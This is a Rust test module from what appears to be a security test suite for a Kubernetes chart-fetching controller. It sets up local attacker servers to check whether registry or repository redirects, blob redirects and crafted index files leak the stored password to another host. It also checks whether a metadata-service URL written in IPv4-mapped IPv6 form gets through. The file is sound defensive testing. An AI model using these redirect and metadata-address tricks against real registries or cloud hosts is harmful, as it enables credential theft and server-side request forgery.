//! Registries, repositories and their redirects: who gets to see a password that is meant for another host.

use anyhow::Result;
use base64::prelude::{BASE64_STANDARD, Engine as _};
use serde_json::{Value, json};

use super::{Actor, Attack, Outcome, Stage};
use crate::http_server::{Answer, Asked, HttpServer};
use crate::namespace::condition;
use crate::{ChartFolder, Namespace};

const USER: &str = "robot";
const PASSWORD: &str = "tell-tale-of-registries";

pub(super) fn attacks() -> Vec<Attack> {
    let registry = |name: &'static str, what: &str, attempt: fn(&Stage, &'static str) -> Result<Outcome>| {
        Attack::new(name, Actor::Registry, what, move |stage| attempt(stage, name))
    };
    vec![
        registry(
            "redirect-token-realm",
            "where a registry redirects to, asks for a token of a service of its own",
            |stage, name| {
                redirected(stage, name, |host| {
                    Answer::AskToken(format!("http://{host}/token"))
                })
            },
        ),
        registry(
            "redirect-basic",
            "where a registry redirects to, asks for the password",
            |stage, name| redirected(stage, name, |_| Answer::AskPassword),
        ),
        registry(
            "redirect-after-login",
            "where a registry redirects to once it has the password, asks for a token of a service of its own",
            |stage, name| {
                after_login(stage, name, |host| {
                    Answer::AskToken(format!("http://{host}/token"))
                })
            },
        ),
        registry(
            "redirect-blob",
            "where a registry keeps its blobs, asks for a token of a service of its own",
            blob,
        ),
        registry(
            "redirect-repository",
            "where a chart repository redirects to, asks for the password",
            |stage, name| {
                repository(stage, name, |host| {
                    Answer::AskToken(format!("http://{host}/token"))
                })
            },
        ),
        registry(
            "index-names-host",
            "the index of a chart repository names another host for the archive",
            index,
        ),
        registry(
            "address-redirect",
            "a chart repository redirects to the metadata service of the cloud",
            |stage, name| link_local(stage, name, Answer::Redirect(METADATA.to_owned())),
        ),
        registry(
            "address-index",
            "the index of a chart repository names the metadata service of the cloud for the archive",
            |stage, name| link_local(stage, name, Answer::Content(index_naming(METADATA).into())),
        ),
    ]
}

/// An address that only machines beside a node reach, in a spelling of IPv6.
const METADATA: &str = "http://[::ffff:169.254.169.254]/latest/trusting-1.0.0.tgz";

/// The definition's author trusts this host with the password, whoever runs it.
fn chart_of(stage: &Stage, name: &str, url: &str, repo: Option<&str>) -> Result<Namespace> {
    let namespace = stage.platform().namespace(name)?;
    namespace.apply(&json!({
        "apiVersion": "v1", "kind": "Secret", "metadata": {"name": "login", "namespace": name},
        "stringData": {"password": PASSWORD},
    }))?;
    let mut chart = json!({
        "url": url, "version": "1.0.0",
        "credentials": {"username": USER, "passwordRef": {"name": "login", "namespace": name, "key": "password"}},
    });
    if url.starts_with("oci:") {
        chart["plainHTTP"] = json!(true);
    }
    if let Some(repo) = repo {
        chart["repo"] = json!(repo);
    }
    namespace.define_as("trusting", &chart)?;
    Ok(namespace)
}

/// Waits until the definition reports its state, and checks what the attacker received.
fn judge(stage: &Stage, namespace: &Namespace, attacker: &HttpServer) -> Result<Outcome> {
    let encoded = BASE64_STANDARD.encode(format!("{USER}:{PASSWORD}"));
    let was_told = || {
        let told = attacker.asked().into_iter().find(|asked| {
            let shown = asked.authorization.clone().unwrap_or_default();
            shown.contains(&encoded) || asked.query.contains(PASSWORD) || asked.path.contains(PASSWORD)
        });
        Ok(told.map(|asked| format!("the password was sent to {} of the attacker's host", asked.path)))
    };
    let settled = || {
        let definition = namespace
            .get("compositiondefinitions", "trusting")?
            .unwrap_or_default();
        Ok(condition(&definition, "Synced").is_some() && !attacker.asked().is_empty())
    };
    let seen = stage.watch(settled, was_told)?;
    let definition = namespace
        .get("compositiondefinitions", "trusting")?
        .unwrap_or_default();
    let said = condition(&definition, "Synced").map(|synced| synced["message"].clone());
    namespace.kubectl(&["delete", "compositiondefinition", "trusting", "--wait=false"])?;
    Ok(match seen {
        Some(seen) => Outcome::got_through(seen),
        None => Outcome::refused(
            format!(
                "the client: {}",
                said.as_ref().and_then(Value::as_str).unwrap_or_default()
            ),
            format!("{} requests without the password", attacker.asked().len()),
        ),
    })
}

/// Answers this to every request without a token.
fn attacker(says: impl Fn(&str) -> Answer + Send + Sync + 'static) -> Result<HttpServer> {
    let own = std::sync::Arc::new(std::sync::OnceLock::<String>::new());
    let known = std::sync::Arc::clone(&own);
    let server = HttpServer::start(move |_: &Asked| says(known.get().map_or("", String::as_str)))?;
    let _ = own.set(server.host());
    Ok(server)
}

fn redirected(stage: &Stage, name: &str, says: fn(&str) -> Answer) -> Result<Outcome> {
    let attacker = attacker(says)?;
    let target = attacker.url("");
    let trusted = HttpServer::start(move |asked| Answer::Redirect(format!("{target}{}", asked.path)))?;
    let namespace = chart_of(
        stage,
        name,
        &format!("oci://{}/charts/trusting", trusted.host()),
        None,
    )?;
    judge(stage, &namespace, &attacker)
}

fn after_login(stage: &Stage, name: &str, says: fn(&str) -> Answer) -> Result<Outcome> {
    let attacker = attacker(says)?;
    let target = attacker.url("");
    let trusted = HttpServer::start(move |asked| match asked.authorization {
        None => Answer::AskPassword,
        Some(_) => Answer::Redirect(format!("{target}{}", asked.path)),
    })?;
    let namespace = chart_of(
        stage,
        name,
        &format!("oci://{}/charts/trusting", trusted.host()),
        None,
    )?;
    judge(stage, &namespace, &attacker)
}

/// The manifest is honest; its layer is on another host, as with registries that use an object store.
fn blob(stage: &Stage, name: &'static str) -> Result<Outcome> {
    let attacker = attacker(|host| Answer::AskToken(format!("http://{host}/token")))?;
    let target = attacker.url("");
    let layer = format!("sha256:{}", "a".repeat(64));
    let manifest = json!({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.cncf.helm.config.v1+json", "digest": layer, "size": 2},
        "layers": [{"mediaType": "application/vnd.cncf.helm.chart.content.v1.tar+gzip", "digest": layer, "size": 2}],
    });
    let trusted = HttpServer::start(move |asked| {
        if asked.path.contains("/blobs/") {
            Answer::Redirect(format!("{target}{}", asked.path))
        } else if asked.path.contains("/tags/") {
            Answer::Content(json!({"tags": ["1.0.0"]}).to_string().into())
        } else {
            Answer::Content(manifest.to_string().into())
        }
    })?;
    let namespace = chart_of(
        stage,
        name,
        &format!("oci://{}/charts/trusting", trusted.host()),
        None,
    )?;
    judge(stage, &namespace, &attacker)
}

fn repository(stage: &Stage, name: &str, says: fn(&str) -> Answer) -> Result<Outcome> {
    let attacker = attacker(says)?;
    let target = attacker.url("");
    let trusted = HttpServer::start(move |asked| Answer::Redirect(format!("{target}{}", asked.path)))?;
    let namespace = chart_of(stage, name, &trusted.url("/charts"), Some("trusting"))?;
    judge(stage, &namespace, &attacker)
}

fn index(stage: &Stage, name: &'static str) -> Result<Outcome> {
    let attacker = attacker(|_| Answer::AskPassword)?;
    let index = index_naming(&attacker.url("/trusting-1.0.0.tgz"));
    let trusted = HttpServer::start(move |_| Answer::Content(index.clone().into()))?;
    let namespace = chart_of(stage, name, &trusted.url("/charts"), Some("trusting"))?;
    judge(stage, &namespace, &attacker)
}

fn index_naming(archive: &str) -> String {
    format!(
        "apiVersion: v1\nentries:\n  trusting:\n    - {{apiVersion: v2, name: trusting, version: 1.0.0, urls: ['{archive}']}}\n"
    )
}

/// Only the client's own words tell a connection that it refused from one that failed. That other hosts are connected
/// to is seen by `index-names-host`.
fn link_local(stage: &Stage, name: &str, answer: Answer) -> Result<Outcome> {
    let trusted = HttpServer::start(move |_| answer.clone())?;
    let namespace = chart_of(stage, name, &trusted.url("/charts"), Some("trusting"))?;
    let said = || {
        let definition = namespace.get("compositiondefinitions", "trusting")?;
        let synced = condition(&definition.unwrap_or_default(), "Synced").cloned();
        Ok(synced.map(|synced| synced["message"].as_str().unwrap_or_default().to_owned()))
    };
    let said = namespace.wait_until("what the definition says", said)?;
    namespace.kubectl(&["delete", "compositiondefinition", "trusting", "--wait=false"])?;
    Ok(if said.contains("a link-local address") {
        Outcome::refused(format!("the client: {said}"), "nothing of that address")
    } else {
        Outcome::got_through(format!("it was connected to: {said}"))
    })
}

/// A simple chart, for attacks that only need one.
pub(super) fn plain(name: &str) -> Result<ChartFolder> {
    ChartFolder::copy("web", name, "1.0.0")
}
